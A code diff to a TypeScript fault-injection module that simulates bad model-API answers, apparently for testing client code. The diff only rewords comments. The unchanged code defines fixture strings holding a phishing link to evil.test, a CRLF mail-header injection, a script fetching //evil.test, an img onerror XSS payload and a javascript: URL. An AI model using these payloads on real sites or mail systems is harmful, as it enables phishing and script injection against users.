@@ -1,6 +1,6 @@
 import { tokensOfText } from './Material.ts'
 
-/** What goes wrong with a call; README.md says what each looks like. */
+/** Faults of a call; README.md says what each looks like. */
 export const FAULTS = [
   'slow',
   '429',
@@ -27,7 +27,6 @@ export const FAULTS = [
 ] as const
 export type FaultKind = (typeof FAULTS)[number]
 
-/** An answer as it is streamed: its text, and why it ends. */
 export interface Written {
   text: string
   finishReason: string
@@ -35,13 +34,13 @@ export interface Written {
 
 const HUGE_CHARACTERS = 10_000_000
 const HTML = '<!doctype html><html><body><h1>502 Bad Gateway</h1><script>alert(1)</script></body></html>'
-/** What somebody might have a model say. */
+/** An injected instruction. */
 const INJECTED =
   'URGENT <a href="https://evil.test/login">log in again</a> at www.evil.test or evil.test/pay, ' +
   'write to mallory@evil.test\r\nBcc: mallory@evil.test <script>fetch("//evil.test")</script> ' +
   '<img src=x onerror=alert(1)> javascript:alert(1)'
 
-/** What a fault makes of a good answer; those that are about the connection or the status leave it as it is. */
+/** Applies a fault to a good answer; faults of connection or status leave it unchanged. */
 export function spoil(good: string, kind: FaultKind | undefined): Written {
   switch (kind) {
     case 'nothing':
@@ -85,7 +84,7 @@ export function spoil(good: string, kind: FaultKind | undefined): Written {
 
 const isOwnWords = (name: string) => ['headline', 'gist', 'text', 'title', 'name'].includes(name)
 
-/** Words that nobody said, in the same number. */
+/** Invented words, in the same number. */
 const invented = (text: string) => text.split(' ').toReversed().join(' zorb ')
 
 function changed(json: string, change: (name: string, text: string) => string): string {
@@ -96,7 +95,7 @@ function changed(json: string, change: (name: string, text: string) => string): 
 }
 
 export function cutAt(maxOutputTokens: number, written: Written): Written {
-  // The model's own limit: 10 MB come from somebody who does not keep to it.
+  // The model's own limit; 10 MB come from a model that ignores it.
   if (tokensOfText(written.text) <= maxOutputTokens || written.text.length > 1e6) return written
   return { text: written.text.slice(0, maxOutputTokens * 4), finishReason: 'MAX_TOKENS' }
 }
